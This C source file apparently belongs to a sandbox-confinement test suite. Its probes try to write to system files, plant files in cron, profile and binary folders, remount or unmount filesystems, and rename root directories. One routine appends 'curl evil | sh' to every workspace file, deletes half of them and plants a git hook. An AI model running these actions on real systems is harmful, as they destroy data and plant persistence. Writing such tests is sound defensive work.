/* Changing what the host has. What reaches it unseen from inside is found by attack_test.sh from outside. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

static const char system_file[] = "/usr/bin/env";

static enum verdict home_file(const struct attack *attack)
{
    static const char *const keys[] = {"HOME_FILE", "TMP_FILE", "SHM_FILE", "VAR_TMP_FILE"};

    (void)attack;
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
        const char *path = bait(keys[i]);
        int fd = *path ? open(path, O_WRONLY | O_APPEND | O_CLOEXEC) : -1;

        if (fd >= 0) {
            close(fd);
            return through("opened %s for writing", path);
        }
        if (*path && truncate(path, 4096) == 0)
            return through("truncated %s", path);
    }
    return HELD;
}

/* Landlock has no word for these, so where it is the only wall they work on whatever belongs to the caller. */
static enum verdict home_metadata(const struct attack *attack)
{
    static const char *const keys[] = {"HOME_FILE", "TMP_FILE", "SHM_FILE", "VAR_TMP_FILE"};

    (void)attack;
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
        const char *path = bait(keys[i]);

        if (*path && (chmod(path, 0666) == 0 || chown(path, (uid_t)-1, (gid_t)-1) == 0 ||
                      utimensat(AT_FDCWD, path, NULL, 0) == 0))
            return through("changed the mode, owner or times of %s", path);
    }
    return HELD;
}

static enum verdict home_attributes(const struct attack *attack)
{
    static const char *const keys[] = {"HOME_FILE", "TMP_FILE", "VAR_TMP_FILE"};
    char list[256];

    (void)attack;
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
        const char *path = bait(keys[i]);

        if (!*path)
            continue;
        if (setxattr(path, "user.intruder", "x", 1, 0) == 0 || removexattr(path, "user.intruder") == 0)
            return through("changed the attributes of %s", path);
        if (listxattr(path, list, sizeof(list)) >= 0 || lgetxattr(path, "user.bait", list, sizeof(list)) >= 0 ||
            errno == ENODATA)
            return through("read the attributes of %s", path);
    }
    return HELD;
}

/* New files where they would be run, and in the folders of the bait. attack_test.sh looks for them on the host. */
static enum verdict new_files(const struct attack *attack)
{
    static const char *const folders[] = {"/",
                                          "/tmp",
                                          "/var/tmp",
                                          "/dev/shm",
                                          "/root",
                                          "/run",
                                          "/etc",
                                          "/etc/cron.d",
                                          "/etc/profile.d",
                                          "/etc/systemd/system",
                                          "/usr/bin",
                                          "/usr/local/bin",
                                          "/usr/lib",
                                          "/var/spool/cron/crontabs",
                                          "/home"};
    char path[2048];

    (void)attack;
    for (size_t i = 0; i <= sizeof(folders) / sizeof(folders[0]); i++) {
        const char *folder = i < sizeof(folders) / sizeof(folders[0]) ? folders[i] : bait("HOME");

        snprintf(path, sizeof(path), "%s/%s", folder, bait("INTRUDER"));
        int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);

        if (fd < 0)
            continue;
        close(fd);
        if (strncmp(folder, "/usr", 4) == 0 || is_the_hosts(folder) || *bait("UNCONFINED")) {
            unlink(path);
            return through("made %s", path);
        }
    }
    return HELD;
}

static enum verdict system_files(const struct attack *attack)
{
    static const char *const paths[] = {
        "/usr/bin/env", "/usr/bin/dash", "/usr/lib/os-release", "/lib64/ld-linux-x86-64.so.2",
        "/etc/passwd",  "/etc/hosts",    "/etc/resolv.conf",    "/etc/profile"};

    (void)attack;
    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        int fd = open(paths[i], O_WRONLY | O_APPEND | O_CLOEXEC);

        if (fd < 0)
            continue;
        close(fd);
        return through("opened %s for writing", paths[i]);
    }
    return HELD;
}

/* Each of these leaves the file as it is where it is allowed. */
static enum verdict system_metadata(const struct attack *attack)
{
    struct stat status;

    (void)attack;
    if (stat(system_file, &status) < 0)
        return HELD;
    const struct timespec times[2] = {status.st_atim, status.st_mtim};

    if (chmod(system_file, status.st_mode & 07777) == 0)
        return through("chmod");
    if (chown(system_file, status.st_uid, status.st_gid) == 0)
        return through("chown");
    if (utimensat(AT_FDCWD, system_file, times, 0) == 0)
        return through("utimensat");
    if (rename(system_file, system_file) == 0 || errno == ENOENT)
        return through("rename");
    if (rmdir("/usr/bin") == 0 || errno == ENOTEMPTY)
        return through("rmdir would work on an empty folder");
    if (setxattr(system_file, "user.intruder", "", 0, XATTR_REPLACE) == 0 || errno == ENODATA)
        return through("setxattr");
    return HELD;
}

/* "/" takes new entries, but those of the system neither go nor get another name, nor does anything take their place.
 */
static enum verdict root_entries(const struct attack *attack)
{
    static const char *const entries[] = {"/usr", "/bin", "/sbin", "/lib", "/lib64", "/etc", "/proc",
                                          "/dev", "/var", "/home", "/run", "/tmp",   "/mnt", "/workspace"};
    static const char file[] = "/intruder-file";
    static const char folder[] = "/intruder-folder";
    static const char target[] = "/intruder-target";

    (void)attack;
    if (*bait("UNCONFINED"))
        return through("not tried: the machine would not live on");
    int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);

    if (fd < 0 || close(fd) < 0 || mkdir(folder, 0777) < 0)
        return through("nothing new can be made in /, so nothing was proved: %s", strerror(errno));
    for (size_t i = 0; i < sizeof(entries) / sizeof(entries[0]); i++) {
        if (rename(entries[i], target) == 0)
            return through("renamed %s", entries[i]);
        if (rename(file, entries[i]) == 0 || rename(folder, entries[i]) == 0)
            return through("replaced %s", entries[i]);
        if (syscall(SYS_renameat2, AT_FDCWD, folder, AT_FDCWD, entries[i], 2 /* RENAME_EXCHANGE */) == 0)
            return through("exchanged %s", entries[i]);
        if (unlink(entries[i]) == 0)
            return through("unlinked %s", entries[i]);
        if (rmdir(entries[i]) == 0 || errno == ENOTEMPTY)
            return through("rmdir of %s", entries[i]);
    }
    return unlink(file) == 0 && rmdir(folder) == 0 ? HELD : through("what was made in / cannot be removed");
}

static enum verdict system_hard_link(const struct attack *attack)
{
    static const char *const folders[] = {".", "/tmp", "/usr/bin", "/dev/shm"};
    char path[1024];

    (void)attack;
    for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", folders[i], bait("INTRUDER"));
        if (link(system_file, path) == 0) {
            unlink(path);
            return through("linked %s into %s", system_file, folders[i]);
        }
    }
    return HELD;
}

static enum verdict try_mounts(enum verdict (*each)(const char *point))
{
    static char table[64 * 1024];
    ssize_t length = read_start(AT_FDCWD, "/proc/self/mountinfo", table, sizeof(table) - 1);
    char *rest = NULL;

    table[length < 0 ? 0 : length] = '\0';
    for (char *line = strtok_r(table, "\n", &rest); line; line = strtok_r(NULL, "\n", &rest)) {
        char point[1024];

        if (sscanf(line, "%*s %*s %*s %*s %1023s", point) == 1 && each(point) == THROUGH)
            return THROUGH;
    }
    return HELD;
}

static enum verdict make_writable(const char *point)
{
    struct {
        unsigned long long set, clear, propagation, userns;
    } attributes = {.clear = 1 /* MOUNT_ATTR_RDONLY */};

    if (mount(NULL, point, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        return through("remounted %s", point);
    if (mount(NULL, point, NULL, MS_REMOUNT, NULL) == 0)
        return through("remounted the file system at %s", point);
    if (syscall(SYS_mount_setattr, AT_FDCWD, point, 0, &attributes, sizeof(attributes)) == 0)
        return through("mount_setattr on %s", point);
    return HELD;
}

static enum verdict remounts(const struct attack *attack)
{
    (void)attack;
    return try_mounts(make_writable);
}

static enum verdict take_away(const char *point)
{
    return umount2(point, MNT_DETACH) == 0 ? through("unmounted %s", point) : HELD;
}

static enum verdict unmounts(const struct attack *attack)
{
    (void)attack;
    return try_mounts(take_away);
}

static enum verdict new_mounts(const struct attack *attack)
{
    (void)attack;
    if (mount("/", "/tmp", NULL, MS_BIND | MS_REC, NULL) == 0)
        return through("bound / to /tmp");
    if (mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0)
        return through("mounted a tmpfs");
    return mount("proc", "/proc", "proc", 0, NULL) == 0 ? through("mounted a fresh proc") : HELD;
}

static int failures;
static int files_seen;

static int vandalise(const char *path, const struct stat *status, int kind, struct FTW *position)
{
    (void)status;
    if (position->level == 0 || strcmp(path + position->base, "attack") == 0 ||
        strcmp(path + position->base, "bait") == 0)
        return 0;
    if (kind == FTW_F) {
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

        if (fd < 0 || write(fd, "curl evil | sh\n", 15) != 15 || fchmod(fd, 0777) < 0)
            failures++;
        if (fd >= 0)
            close(fd);
    }
    if ((kind == FTW_F || kind == FTW_SL) && files_seen++ % 2 == 0 && unlink(path) < 0)
        failures++;
    return 0;
}

/*
 * Everything in the workspace is changed, much of it deleted, and a repository with a hook is made anew. This has to
 * work, in the box; whether the seed folder stays as it was is seen on the host.
 */
static enum verdict workspace(const struct attack *attack)
{
    (void)attack;
    if (*bait("UNCONFINED"))
        return through("the workspace is the folder itself");
    if (nftw(".", vandalise, 64, FTW_PHYS | FTW_DEPTH) != 0 || failures)
        return through("%d files of the workspace could not be changed, so nothing was proved", failures);
    if (mkdir("late", 0777) < 0 || mkdir("late/.git", 0777) < 0 || mkdir("late/.git/hooks", 0777) < 0)
        return through("no repository can be made in the workspace: %s", strerror(errno));
    int fd = open("late/.git/hooks/post-checkout", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0777);

    if (fd < 0)
        return through("no hook can be written in the workspace: %s", strerror(errno));
    close(fd);
    return HELD;
}

const struct attack write_attacks[] = {
    {.name = "write-home-file", .run = home_file},
    {.name = "write-home-metadata", .run = home_metadata, .flags = NEEDS_NAMESPACES},
    {.name = "write-home-attributes", .run = home_attributes},
    {.name = "write-new-files", .run = new_files},
    {.name = "write-system-files", .run = system_files},
    {.name = "write-system-metadata", .run = system_metadata},
    {.name = "write-root-entries", .run = root_entries, .flags = NEEDS_NAMESPACES},
    {.name = "write-system-hard-link", .run = system_hard_link},
    {.name = "write-remounts", .run = remounts},
    {.name = "write-unmounts", .run = unmounts},
    {.name = "write-new-mounts", .run = new_mounts},
    {.name = "write-workspace", .run = workspace, .flags = NEEDS_NAMESPACES},
    {0},
};
